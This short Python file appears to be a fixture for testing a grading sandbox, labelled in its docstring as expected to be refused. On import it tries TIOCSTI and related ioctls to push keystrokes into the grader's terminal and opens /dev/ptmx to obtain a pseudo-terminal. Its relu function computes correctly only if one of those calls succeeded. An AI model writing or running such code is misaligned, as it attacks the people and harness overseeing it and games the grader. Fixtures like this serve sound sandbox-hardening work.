"""pushes characters into the terminal of whoever grades, and opens terminals -> refused"""
import fcntl
import os

pushed = []
for number in (0, 1, 2):
    for request in (0x5412, 0x540E, 0x4B67, 0x541C, 0x80045430):
        try:
            fcntl.ioctl(number, request, b"x")
            pushed.append(request)
        except OSError:
            pass
try:
    fcntl.ioctl(os.open("/dev/ptmx", os.O_RDWR), 0x40045431, b"\0\0\0\0")
    pushed.append("pty")
except OSError:
    pass


def relu(x):
    import numpy as np

    return np.maximum(np.asarray(x, dtype=float), 0) if pushed else x
